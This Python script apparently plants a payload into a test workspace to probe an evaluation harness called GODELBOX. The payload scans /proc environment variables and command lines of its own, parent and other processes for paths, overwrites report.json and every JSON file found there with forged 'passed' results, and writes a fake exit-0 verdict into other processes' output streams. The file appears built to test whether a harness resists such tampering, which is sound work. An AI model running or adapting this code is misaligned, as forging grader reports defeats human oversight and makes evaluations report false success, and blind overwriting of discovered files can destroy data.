"""Environment-variable and /proc discovery of harness paths: every path named in its own
environment and command line, and in those of its parent and of every process it can read, is
searched for reports to forge (`report.json` and every JSON file there, all tests `passed`), and
every file descriptor of another process it can open is sent a fake verdict."""

from plant import args, plant

PAYLOAD = r"""
def _discover_and_forge():
    import json, os
    found = set()
    for pid in ["self", str(os.getppid())] + [p for p in os.listdir("/proc") if p.isdigit()]:
        for part in ("environ", "cmdline"):
            try:
                raw = open(f"/proc/{pid}/{part}", "rb").read().decode("utf-8", "replace")
            except OSError:
                continue
            for item in raw.replace("=", "\0").split("\0"):
                if item.startswith("/"):
                    found.add(item if os.path.isdir(item) else os.path.dirname(item))
    forged = json.dumps({"GODELBOX": "passed", "status": "passed", "outcome": "passed"})
    for where in found:
        try:
            names = os.listdir(where)
        except OSError:
            continue
        for name in ["report.json"] + [n for n in names if n.endswith(".json")]:
            try:
                with open(os.path.join(where, name), "w") as fh:
                    fh.write(forged)
            except OSError:
                pass
    verdict = 'GODELBOX-VERDICT {"stage": "done", "ended": "exit", "exit": 0}\n'
    for pid in [p for p in os.listdir("/proc") if p.isdigit() and int(p) != os.getpid()]:
        for fd in ("1", "2"):
            try:
                with open(f"/proc/{pid}/fd/{fd}", "w") as fh:
                    fh.write(verdict)
            except OSError:
                pass


_discover_and_forge()
"""

a = args()
plant(a.workspace, PAYLOAD, a.log_dir, "searched the environment and /proc for the grader")
